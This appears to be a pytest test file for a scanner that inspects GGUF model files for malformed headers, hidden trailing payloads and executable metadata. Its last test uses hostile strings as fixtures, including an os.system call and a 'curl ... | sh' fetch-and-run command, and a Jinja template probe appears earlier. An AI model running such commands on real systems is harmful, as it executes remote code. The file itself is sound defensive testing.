import struct

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scanned_files import judged, pickles_and_text, techniques

from vallum.models.scan.formats.executables import ExecutableInspector
from vallum.models.scan.formats.gguf import GgufInspector
from vallum.models.scan.model import Report, Verdict


def text(value: bytes) -> bytes:
    return struct.pack("<Q", len(value)) + value


def gguf(keys: list[tuple[bytes, int, bytes]], tensors: list[tuple[bytes, list[int], int, int]], body: bytes) -> bytes:
    head = b"GGUF" + struct.pack("<LQQ", 3, len(tensors), len(keys))
    head += b"".join(text(key) + struct.pack("<L", kind) + value for key, kind, value in keys)
    for name, shape, kind, offset in tensors:
        head += text(name) + struct.pack(f"<L{len(shape)}QLQ", len(shape), *shape, kind, offset)
    return head + bytes(-len(head) % 32) + body


_KEYS = [
    (b"general.architecture", 8, text(b"llama")),
    (b"general.alignment", 4, struct.pack("<L", 32)),
    (b"llama.block_count", 4, struct.pack("<L", 2)),
    (b"tokenizer.ggml.tokens", 9, struct.pack("<LQ", 8, 2) + text(b"<s>") + text(b"a")),
    (b"tokenizer.ggml.scores", 9, struct.pack("<LQ", 6, 2) + bytes(8)),
]
_TENSORS = [(b"a", [4, 2], 0, 0), (b"b", [32], 8, 32)]
_GOOD = gguf(_KEYS, _TENSORS, bytes(32 + 64))


def scanned(data: bytes) -> Report:
    return judged(data, [GgufInspector(), ExecutableInspector()])


def test_a_correct_file_passes():
    report = scanned(_GOOD)
    assert (report.verdict, report.findings) == (Verdict.PASS, ())


def test_chat_templates_are_handed_on():
    stub = pickles_and_text()
    template = b"{{ messages[0].__class__ }}"
    judged(gguf([(b"tokenizer.chat_template", 8, text(template))], [], b""), [GgufInspector(), stub])
    assert stub.seen == {"model.bin!metadata@tokenizer.chat_template.jinja": template}


@pytest.mark.parametrize(
    "data",
    [
        b"GGUF" + struct.pack("<LQQ", 3, 1 << 40, 0),
        b"GGUF" + struct.pack("<LQQ", 3, 0, 5),
        gguf([(b"k", 8, struct.pack("<Q", 1 << 62))], [], b""),
        gguf([(b"k", 9, struct.pack("<LQ", 6, 1 << 62))], [], b""),
        gguf([(b"k", 9, struct.pack("<LQ", 9, 1) * 50)], [], b""),
        gguf([(b"k", 77, b"")], [], b""),
        gguf([_KEYS[0], _KEYS[0]], [], b""),
        gguf([(b"general.alignment", 4, bytes(4))], [], b""),
        gguf([], [(b"a", [1 << 60, 1 << 60], 0, 0)], bytes(32)),
        gguf([], [(b"a", [8], 0, 1)], bytes(64)),
        gguf([], [(b"a", [8], 0, 0), (b"b", [8], 0, 0)], bytes(64)),
        gguf([], [(b"a", [8], 0, 0), (b"a", [8], 0, 32)], bytes(64)),
    ],
)
def test_lies_are_refused(data):
    assert scanned(data).verdict == Verdict.BLOCK


def test_what_is_behind_the_tensors_is_found():
    assert "hidden-payload" in techniques(scanned(_GOOD + bytes(64)), Verdict.REVIEW)
    assert "executable" in techniques(scanned(_GOOD + b"#!/bin/sh\n"), Verdict.BLOCK)


@given(st.binary(max_size=200))
@settings(max_examples=60, deadline=None)
def test_noise_is_never_a_failure(noise):
    for data in (b"GGUF" + noise, b"GGUF" + struct.pack("<LQQ", 3, 2, 3) + noise):
        assert "scanner-error" not in techniques(scanned(data), Verdict.REVIEW)


@given(st.integers(0, len(_GOOD) * 8 - 1))
@settings(max_examples=100, deadline=None)
def test_a_flip_is_never_a_failure(at):
    bad = bytearray(_GOOD)
    bad[at // 8] ^= 1 << at % 8
    assert "scanner-error" not in techniques(scanned(bytes(bad)), Verdict.REVIEW)


def test_texts_that_are_code_or_name_it():
    for value in (b"__import__('os').system('id')", b"curl http://example.org/x | sh", b"os.system"):
        report = scanned(gguf([(b"general.source", 8, text(value))], [], b""))
        assert {finding.technique for finding in report.findings} == {"config-executes"}
        assert report.verdict is Verdict.BLOCK
    for value in (b"an assistant that writes os.system calls", b"https://example.org/model", b"llama"):
        assert scanned(gguf([(b"general.source", 8, text(value))], [], b"")).findings == ()
